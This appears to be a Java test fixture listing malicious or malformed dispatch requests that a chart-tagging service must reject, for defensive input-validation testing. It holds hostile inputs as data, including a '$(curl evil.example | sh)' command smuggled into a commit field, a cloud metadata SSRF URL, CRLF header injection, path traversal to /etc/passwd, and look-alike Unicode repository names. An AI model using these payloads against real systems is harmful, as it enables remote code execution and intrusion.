package io.charttagger.dispatch;

import static io.charttagger.dispatch.RejectedRequest.rejected;
import static io.charttagger.dispatch.SavedEvents.apiBody;
import static io.charttagger.dispatch.SavedEvents.dispatch;
import static io.charttagger.dispatch.SavedEvents.text;

import java.util.List;

/** Dispatches that must be rejected, from any source. */
final class RejectedDispatches {
  private static final String REPOSITORY = "\"example-org/helm-charts\"";
  private static final String AFTER = "\"9c1d4e7f2a5b8c0d3e6f9a2b5c8d1e4f7a0b3c6d\"";
  private static final String BEFORE = "\"5f2b1c9e8d7a6b5c4d3e2f1a0b9c8d7e6f5a4b3c\"";

  private RejectedDispatches() {}

  static List<RejectedRequest> all() {
    return List.of(
        rejected(403, Rule.ALLOW_LIST, "another owner's repository", repository("evil/charts")),
        rejected(
            403,
            Rule.ALLOW_LIST,
            "another repository of an owner with one listed repository",
            repository("example-org/secrets")),
        rejected(
            403,
            Rule.ALLOW_LIST,
            "an owner that begins like a listed one",
            repository("kube-friends-evil/charts")),
        rejected(
            403,
            Rule.ALLOW_LIST,
            "URLs of another host",
            dispatch(
                REPOSITORY,
                "\"evil/charts\", \"url\": \"http://169.254.169.254/latest/meta-data/\"")),
        rejected(
            400,
            Rule.FIELD,
            "a Cyrillic letter in the repository",
            repository("ex\u0430mple-org/helm-charts")),
        rejected(
            400,
            Rule.FIELD,
            "a full-width letter in the repository",
            repository("ｅxample-org/helm-charts")),
        rejected(
            400,
            Rule.FIELD,
            "a Kelvin sign in the repository",
            repository("\u212Aube-friends/charts")),
        rejected(
            400,
            Rule.FIELD,
            "a zero-width space in the repository",
            repository("example-org\u200B/helm-charts")),
        rejected(400, Rule.FIELD, "a path traversal as repository", repository("kube-friends/..")),
        rejected(
            400,
            Rule.FIELD,
            "a path traversal in the repository",
            repository("kube-friends/../example-org/helm-charts")),
        rejected(400, Rule.FIELD, "an encoded slash", repository("kube-friends%2fcharts")),
        rejected(
            400,
            Rule.FIELD,
            "a query after the repository",
            repository("kube-friends/charts?per_page=1")),
        rejected(
            400,
            Rule.FIELD,
            "a header after the repository",
            repository("kube-friends/charts\\r\\nHost: evil")),
        rejected(
            400,
            Rule.FIELD,
            "a line end after the repository",
            repository("example-org/helm-charts\\n")),
        rejected(400, Rule.FIELD, "a wildcard as repository", repository("kube-friends/*")),
        rejected(
            400,
            Rule.FIELD,
            "an address as repository",
            repository("https://github.com/kube-friends/charts")),
        rejected(400, Rule.FIELD, "an empty repository", repository("")),
        rejected(
            400,
            Rule.FIELD,
            "a repository of a million letters",
            repository("kube-friends/" + "a".repeat(1_000_000))),
        rejected(
            400,
            Rule.FIELD,
            "null as repository",
            dispatch("{\n    \"full_name\": " + REPOSITORY + "\n  }", "null")),
        rejected(400, Rule.FIELD, "null as repository's name", dispatch(REPOSITORY, "null")),
        rejected(
            400,
            Rule.FIELD,
            "a list of repositories",
            dispatch(REPOSITORY, "[" + REPOSITORY + "]")),
        rejected(400, Rule.FIELD, "a number as action", dispatch("\"charts-merged\"", "1")),
        rejected(400, Rule.FIELD, "null as action", dispatch("\"charts-merged\"", "null")),
        rejected(400, Rule.FIELD, "null as branch", dispatch("\"main\"", "null")),
        rejected(403, Rule.BRANCH, "another branch", dispatch("\"main\"", "\"release\"")),
        rejected(
            403,
            Rule.BRANCH,
            "another branch through API Gateway",
            apiBody(dispatch("\"main\"", "\"MAIN\""))),
        rejected(400, Rule.FIELD, "no commit", dispatch("\"after\"", "\"head\"")),
        rejected(400, Rule.FIELD, "null as commit", dispatch(AFTER, "null")),
        rejected(
            400, Rule.FIELD, "an all-zero commit", dispatch(AFTER, "\"" + "0".repeat(40) + "\"")),
        rejected(400, Rule.FIELD, "an abbreviated commit", dispatch(AFTER, "\"9c1d4e7\"")),
        rejected(400, Rule.FIELD, "a branch as commit", dispatch(AFTER, "\"main\"")),
        rejected(400, Rule.FIELD, "a number as commit", dispatch(AFTER, "1e40")),
        rejected(
            400,
            Rule.FIELD,
            "a path as commit",
            dispatch(AFTER, "\"../../../evil/charts/git/refs/heads/mai\"")),
        rejected(
            400,
            Rule.FIELD,
            "a shell command as commit",
            dispatch(AFTER, "\"$(curl evil.example | sh)\"")),
        rejected(400, Rule.FIELD, "a line end after the commit", dispatch("c6d\"", "c6d\\n\"")),
        rejected(400, Rule.FIELD, "full-width digits in the commit", dispatch("\"9c1d", "\"９c1d")),
        rejected(400, Rule.FIELD, "a list as the commit before", dispatch(BEFORE, "[]")),
        rejected(400, Rule.FIELD, "an empty commit before", dispatch(BEFORE, "\"\"")),
        rejected(
            400,
            Rule.FIELD,
            "null as payload",
            "{\"repository\":{\"full_name\":" + REPOSITORY + "},\"client_payload\":null}"),
        rejected(
            400,
            Rule.FIELD,
            "a text as payload",
            "{\"repository\":{\"full_name\":" + REPOSITORY + "},\"client_payload\":\"{}\"}"),
        rejected(
            400, Rule.FIELD, "no payload", "{\"repository\":{\"full_name\":" + REPOSITORY + "}}"),
        rejected(
            400,
            Rule.TOO_LARGE,
            "a payload of 70 KB",
            payload("\"notes\": \"" + "x".repeat(70_000) + "\"")),
        rejected(400, Rule.FIELD, "a dry run in quotation marks", dryRun("\"true\"")),
        rejected(400, Rule.FIELD, "a dry run of one", dryRun("1")),
        rejected(400, Rule.FIELD, "a dry run of null", dryRun("null")),
        rejected(400, Rule.FIELD, "a dry run misspelt", payload("\"dryRun\": true")),
        rejected(
            400,
            Rule.FIELD,
            "a dry run in the wrong place",
            dispatch("\"branch\"", "\"dry_run\": true, \"branch\"")),
        rejected(400, Rule.FIELD, "no charts", payload("\"charts\": []")),
        rejected(400, Rule.FIELD, "null as charts", payload("\"charts\": null")),
        rejected(400, Rule.FIELD, "a text as charts", payload("\"charts\": \"a\"")),
        rejected(400, Rule.FIELD, "null as chart", payload("\"charts\": [null]")),
        rejected(400, Rule.FIELD, "a path as chart", payload("\"charts\": [\"../../etc/passwd\"]")),
        rejected(400, Rule.FIELD, "a line end in a chart", payload("\"charts\": [\"a\\nb\"]")),
        rejected(
            400,
            Rule.FIELD,
            "a chart of 64,000 letters",
            payload("\"charts\": [\"" + "a".repeat(64_000) + "!\"]")),
        rejected(400, Rule.FIELD, "a fraction as installation", dispatch("51234567", "1.5")),
        rejected(400, Rule.FIELD, "a power as installation", dispatch("51234567", "1e999999999")),
        rejected(
            400,
            Rule.FIELD,
            "a number past 64 bits as installation",
            dispatch("51234567", "9223372036854775808")),
        rejected(400, Rule.FIELD, "a negative installation", dispatch("51234567", "-1")),
        rejected(400, Rule.FIELD, "a text as installation", dispatch("51234567", "\"51234567\"")),
        rejected(400, Rule.FIELD, "null as installation", dispatch("51234567", "null")));
  }

  private static String repository(String name) {
    return dispatch(REPOSITORY, "\"" + name + "\"");
  }

  private static String payload(String field) {
    return dispatch("\"client_payload\": {", "\"client_payload\": {" + field + ",");
  }

  private static String dryRun(String value) {
    return SavedEvents.replaced(text("dry-run.json"), "\"dry_run\": true", "\"dry_run\": " + value);
  }
}
